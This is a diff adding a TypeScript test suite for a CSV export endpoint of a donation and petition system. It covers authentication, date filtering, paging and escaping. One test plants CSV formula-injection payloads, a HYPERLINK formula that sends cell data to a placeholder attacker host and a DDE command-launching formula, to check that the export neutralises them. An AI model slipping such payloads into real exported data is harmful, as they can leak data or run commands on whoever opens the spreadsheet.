@@ -1,0 +1,347 @@
+/** GET /export on every kind of database: who may read it, what it says, and that a spreadsheet never runs a cell. */
+import {parse} from 'csv-parse/sync';
+import {afterEach, beforeEach, describe, expect, it} from 'vitest';
+import {createPgStore} from './db/store';
+import {answerExport, parseSince} from './export';
+import type {GiftRecord, GiftStore, KeptGift, KeptSignature} from './store';
+import {DATABASES, type TestDatabase} from './testing/databases';
+
+const TOKEN = 'export-token-0123456789abcdefghijklmnop';
+const NOW = Date.UTC(2026, 0, 31, 12);
+const JAN_1 = Date.UTC(2026, 0, 1) / 1000;
+const DAY = 24 * 60 * 60;
+
+const exportRequest = (query: string, authorization: string | null = `Bearer ${TOKEN}`, method = 'GET') =>
+  new Request(`https://coral.example.org/export?${query}`, {method, headers: authorization === null ? {} : {authorization}});
+
+const gift = (change: Partial<KeptGift> = {}): KeptGift => ({
+  reference: 'pi_1',
+  idempotencyKey: `key-${Math.random().toString(36).slice(2)}-0000000000`,
+  via: 'gifts',
+  campaign: 'save-the-reef',
+  sourceCode: 'REEF-WEB',
+  frequency: 'one-off',
+  method: 'card',
+  amount: 6000,
+  fee: 120,
+  currency: 'AUD',
+  payments: null,
+  supporter: {
+    firstName: 'Ada',
+    lastName: 'Lovelace',
+    email: 'ada@example.org',
+    phone: '+61412345678',
+    postcode: '2000',
+    address: '1 Reef Rd',
+  },
+  consent: {given: true, wording: 'Keep me updated.', version: '0123456789abcdef'},
+  utm: {utm_source: 'newsletter', utm_medium: 'email'},
+  upgradeFrom: null,
+  createdAt: JAN_1,
+  ...change,
+});
+
+const signature = (change: Partial<KeptSignature> = {}): KeptSignature => ({
+  idempotencyKey: `key-${Math.random().toString(36).slice(2)}-0000000000`,
+  campaign: 'ban-deep-sea-mining',
+  kind: 'petition',
+  sourceCode: 'DSM-WEB',
+  supporter: {firstName: 'Ada', lastName: 'Lovelace', email: 'ada@example.org', phone: '+61412345678', postcode: '2000'},
+  answer: null,
+  consent: {given: true, wording: 'Keep me updated.', version: '0123456789abcdef'},
+  utm: {},
+  createdAt: JAN_1,
+  ...change,
+});
+
+const payment = (change: Partial<GiftRecord>): GiftRecord => ({
+  outcome: 'paid',
+  reference: 'pi_1',
+  stripeId: 'pi_1',
+  campaign: 'save-the-reef',
+  frequency: 'one-off',
+  amount: 6120,
+  currency: 'AUD',
+  eventId: 'evt_1',
+  recordedAt: JAN_1 + 60,
+  ...change,
+});
+
+const rowsOf = (text: string): Array<Record<string, string>> => parse(text, {columns: true});
+
+describe.each(DATABASES)('export on $name', ({create}) => {
+  let test: TestDatabase;
+  let store: GiftStore;
+  const answer = (request: Request, token: string | null = TOKEN, pageSize?: number) =>
+    answerExport(request, {db: test.db, token, now: () => NOW, ...(pageSize ? {pageSize} : {})});
+  const exported = async (query: string, pageSize?: number) => {
+    const response = await answer(exportRequest(query), TOKEN, pageSize);
+    expect(response.status).toBe(200);
+    return rowsOf(await response.text());
+  };
+
+  beforeEach(async () => {
+    test = await create();
+    store = createPgStore(test.db);
+  });
+  afterEach(async () => {
+    await test.drop();
+  });
+
+  it('answers 404 when no token is configured, whatever is sent', async () => {
+    const response = await answer(exportRequest('kind=gifts'), null);
+    expect(response.status).toBe(404);
+    expect(await response.json()).toEqual({status: 'rejected', reason: 'not found'});
+  });
+
+  it.each([
+    ['no Authorization header', null],
+    ['a wrong token', 'Bearer export-token-0123456789abcdefghijklmnoq'],
+    ['a prefix of the token', `Bearer ${TOKEN.slice(0, -1)}`],
+    ['the token and more', `Bearer ${TOKEN}x`],
+    ['Basic credentials', `Basic ${btoa(`coral:${TOKEN}`)}`],
+    ['the token as Basic', `Basic ${TOKEN}`],
+    ['Bearer with no token', 'Bearer '],
+  ])('answers 401 to %s, and says nothing else', async (_, authorization) => {
+    const response = await answer(exportRequest('kind=nonsense&since=never', authorization));
+    expect(response.status).toBe(401);
+    expect(response.headers.get('www-authenticate')).toBe('Bearer');
+    expect(response.headers.get('content-type')).toBe('application/json; charset=utf-8');
+    expect(await response.json()).toEqual({status: 'rejected', reason: 'unauthorised'});
+  });
+
+  it('takes the scheme in any case', async () => {
+    expect((await answer(exportRequest('kind=gifts', `bearer ${TOKEN}`))).status).toBe(200);
+  });
+
+  it('answers 405 to anything but GET', async () => {
+    const response = await answer(exportRequest('kind=gifts', `Bearer ${TOKEN}`, 'POST'));
+    expect(response.status).toBe(405);
+    expect(response.headers.get('allow')).toBe('GET');
+  });
+
+  it.each([
+    ['', 'kind: expected gifts or signatures'],
+    ['kind=payments', 'kind: expected gifts or signatures'],
+    ['kind=gifts&since=yesterday', 'since: expected'],
+    ['kind=gifts&since=2026-02-30', 'since: expected'],
+    ['kind=gifts&since=2026-01-31T25:00:00Z', 'since: expected'],
+    ['kind=gifts&since=2026-01-31T09:00:00', 'since: expected'],
+    ['kind=signatures&since=1767225600', 'since: expected'],
+  ])('answers 400 to ?%s', async (query, reason) => {
+    const response = await answer(exportRequest(query));
+    expect(response.status).toBe(400);
+    expect(((await response.json()) as {reason: string}).reason).toContain(reason);
+  });
+
+  it('answers 503 when the records cannot be read', async () => {
+    await test.db.close();
+    const response = await answer(exportRequest('kind=gifts'));
+    expect(response.status).toBe(503);
+    expect(await response.json()).toMatchObject({status: 'error', retryable: true});
+  });
+
+  it('answers an empty export as its header row, as a CSV download', async () => {
+    const response = await answer(exportRequest('kind=signatures'));
+    expect(response.status).toBe(200);
+    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
+    expect(response.headers.get('content-disposition')).toBe('attachment; filename="coral-signatures-2026-01-31.csv"');
+    expect(response.headers.get('cache-control')).toBe('no-store');
+    expect(await response.text()).toBe(
+      'reference,campaign,kind,source_code,first_name,last_name,email,phone,postcode,answer_id,answer,consent,consent_wording,' +
+        'consent_version,consented_at,utm_source,utm_medium,utm_campaign,utm_content,utm_term,created_at\n',
+    );
+  });
+
+  it('exports signatures exactly as kept: commas, quotes, new lines and any script', async () => {
+    const awkward = {firstName: 'Zoë, "Jo"', lastName: 'Ngā\nTāngata 山田', email: 'Zoe@Example.org', postcode: '0600'};
+    const {reference} = await store.sign(
+      signature({
+        supporter: awkward,
+        answer: {id: 'q1', value: 'Yes; "really"\r\nand more'},
+        consent: {given: false, wording: 'Email me, text me.', version: 'v2'},
+        utm: {utm_source: 'news letter', utm_campaign: 'reef-2026'},
+        createdAt: JAN_1 + 90,
+      }),
+    );
+    expect(await exported('kind=signatures')).toEqual([
+      {
+        reference,
+        campaign: 'ban-deep-sea-mining',
+        kind: 'petition',
+        source_code: 'DSM-WEB',
+        first_name: 'Zoë, "Jo"',
+        last_name: 'Ngā\nTāngata 山田',
+        email: 'zoe@example.org',
+        phone: '',
+        postcode: '0600',
+        answer_id: 'q1',
+        answer: 'Yes; "really"\r\nand more',
+        consent: 'false',
+        consent_wording: 'Email me, text me.',
+        consent_version: 'v2',
+        consented_at: '2026-01-01T00:01:30.000Z',
+        utm_source: 'news letter',
+        utm_medium: '',
+        utm_campaign: 'reef-2026',
+        utm_content: '',
+        utm_term: '',
+        created_at: '2026-01-01T00:01:30.000Z',
+      },
+    ]);
+  });
+
+  it('exports gifts with what Stripe said of each since', async () => {
+    await store.keepGift(gift());
+    await store.keepGift(
+      gift({
+        reference: 'sub_1',
+        frequency: 'monthly',
+        supporter: {firstName: 'Grace'},
+        consent: {given: false, wording: 'Keep me updated.', version: 'v1'},
+        utm: {},
+        upgradeFrom: {amount: 2500, frequency: 'one-off'},
+        createdAt: JAN_1 + 10,
+      }),
+    );
+    await store.recordOnce('failed:evt_0', payment({outcome: 'failed', eventId: 'evt_0', recordedAt: JAN_1 + 30}));
+    await store.recordOnce('paid:pi_1', payment({}));
+    await store.recordOnce('paid:in_1', payment({reference: 'sub_1', stripeId: 'in_1', amount: 2500, recordedAt: JAN_1 + 20}));
+    await store.recordOnce('paid:in_2', payment({reference: 'sub_1', stripeId: 'in_2', amount: 2500, recordedAt: JAN_1 + 20 + 30 * DAY}));
+    await store.recordOnce('ended:sub_1', payment({outcome: 'ended', reference: 'sub_1', amount: null, recordedAt: JAN_1 + 40 * DAY}));
+
+    const [first, second, ...rest] = await exported('kind=gifts');
+    expect(rest).toEqual([]);
+    expect(first).toEqual({
+      reference: 'pi_1',
+      campaign: 'save-the-reef',
+      via: 'gifts',
+      source_code: 'REEF-WEB',
+      frequency: 'one-off',
+      method: 'card',
+      currency: 'AUD',
+      amount_cents: '6000',
+      fee_cents: '120',
+      payments: '',
+      first_name: 'Ada',
+      last_name: 'Lovelace',
+      email: 'ada@example.org',
+      phone: "'+61412345678",
+      postcode: '2000',
+      address: '1 Reef Rd',
+      consent: 'true',
+      consent_wording: 'Keep me updated.',
+      consent_version: '0123456789abcdef',
+      consented_at: '2026-01-01T00:00:00.000Z',
+      utm_source: 'newsletter',
+      utm_medium: 'email',
+      utm_campaign: '',
+      utm_content: '',
+      utm_term: '',
+      upgrade_from_amount_cents: '',
+      upgrade_from_frequency: '',
+      latest_outcome: 'paid',
+      latest_outcome_at: '2026-01-01T00:01:00.000Z',
+      paid_count: '1',
+      paid_total_cents: '6120',
+      created_at: '2026-01-01T00:00:00.000Z',
+    });
+    expect(second).toMatchObject({
+      reference: 'sub_1',
+      frequency: 'monthly',
+      first_name: 'Grace',
+      last_name: '',
+      consent: 'false',
+      upgrade_from_amount_cents: '2500',
+      upgrade_from_frequency: 'one-off',
+      latest_outcome: 'ended',
+      latest_outcome_at: '2026-02-10T00:00:00.000Z',
+      paid_count: '2',
+      paid_total_cents: '5000',
+    });
+  });
+
+  it('answers a gift Stripe has said nothing of with empty outcome columns', async () => {
+    await store.keepGift(gift());
+    const [row] = await exported('kind=gifts');
+    expect(row).toMatchObject({latest_outcome: '', latest_outcome_at: '', paid_count: '0', paid_total_cents: '0'});
+  });
+
+  it('puts an apostrophe before every cell a spreadsheet would run as a formula', async () => {
+    const {reference} = await store.sign(
+      signature({
+        supporter: {
+          firstName: '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+          lastName: "@SUM(1+1)*cmd|' /C calc'!A0",
+          phone: '+61412345678',
+          postcode: '-2000',
+        },
+        sourceCode: '+SOURCE',
+        answer: {id: '=1+1', value: '\t=1+1'},
+        consent: {given: true, wording: '\r=1+1', version: '-v1'},
+        utm: {utm_source: '=cmd', utm_term: 'safe=enough'},
+      }),
+    );
+    const [row] = await exported('kind=signatures');
+    expect(row).toMatchObject({
+      reference,
+      first_name: '\'=HYPERLINK("https://evil.example/?"&A1,"Click")',
+      last_name: "'@SUM(1+1)*cmd|' /C calc'!A0",
+      phone: "'+61412345678",
+      postcode: "'-2000",
+      source_code: "'+SOURCE",
+      answer_id: "'=1+1",
+      answer: "'\t=1+1",
+      consent_wording: "'\r=1+1",
+      consent_version: "'-v1",
+      utm_source: "'=cmd",
+      utm_term: 'safe=enough',
+    });
+  });
+
+  it('answers the records made since a date or a moment, oldest first', async () => {
+    const made: Array<{createdAt: number; reference: string}> = [];
+    for (const [i, createdAt] of [JAN_1 + 2 * DAY, JAN_1, JAN_1 + DAY + 3600, JAN_1 + DAY].entries()) {
+      made.push({createdAt, reference: (await store.sign(signature({supporter: {email: `s${i}@example.org`}, createdAt}))).reference});
+    }
+    const references = (rows: Array<Record<string, string>>) => rows.map((row) => row.reference);
+    const inOrder = made.sort((a, b) => a.createdAt - b.createdAt).map((one) => one.reference);
+    expect(references(await exported('kind=signatures'))).toEqual(inOrder);
+    expect(references(await exported('kind=signatures&since=2026-01-02'))).toEqual(inOrder.slice(1));
+    expect(references(await exported('kind=signatures&since=2026-01-02T01:00:00Z'))).toEqual(inOrder.slice(2));
+    // Eleven in the morning in Sydney is one o'clock UTC; the "+" may arrive unencoded, and so be read as a space.
+    expect(references(await exported('kind=signatures&since=2026-01-02T11:00:00%2B10:00'))).toEqual(inOrder.slice(2));
+    expect(references(await exported('kind=signatures&since=2026-01-02T11:00:00+10:00'))).toEqual(inOrder.slice(2));
+    expect(references(await exported('kind=signatures&since=2026-01-04'))).toEqual([]);
+  });
+
+  it('reads page after page, one row at a time even when rows share a moment', async () => {
+    for (let i = 0; i < 7; i += 1) await store.sign(signature({supporter: {email: `s${i}@example.org`}, createdAt: JAN_1 + (i % 3)}));
+    const whole = await exported('kind=signatures');
+    expect(whole).toHaveLength(7);
+    const byPage = await exported('kind=signatures', 2);
+    expect(byPage).toEqual(whole);
+    expect(await exported('kind=signatures', 7)).toEqual(whole);
+    const keys = whole.map((row) => `${row.created_at} ${row.reference}`);
+    expect(keys).toEqual([...keys].sort());
+  });
+});
+
+describe('since', () => {
+  it.each([
+    ['2026-01-31', '2026-01-31T00:00:00.000Z'],
+    ['2026-01-31T09:30Z', '2026-01-31T09:30:00.000Z'],
+    ['2026-01-31T09:30:15.250+10:00', '2026-01-30T23:30:15.250Z'],
+    ['2026-01-31T09:30:15 10:00', '2026-01-30T23:30:15.000Z'],
+    ['2024-02-29', '2024-02-29T00:00:00.000Z'],
+  ])('reads %s as %s', (value, instant) => {
+    expect(parseSince(value)).toBe(instant);
+  });
+
+  it.each(['2025-02-29', '2026-13-01', '31/01/2026', '2026-01-31T09:30', '2026-01-31 09:30Z', '2026-01-31T24:30Z'])(
+    'refuses %s',
+    (value) => {
+      expect(parseSince(value)).toBeNull();
+    },
+  );
+});
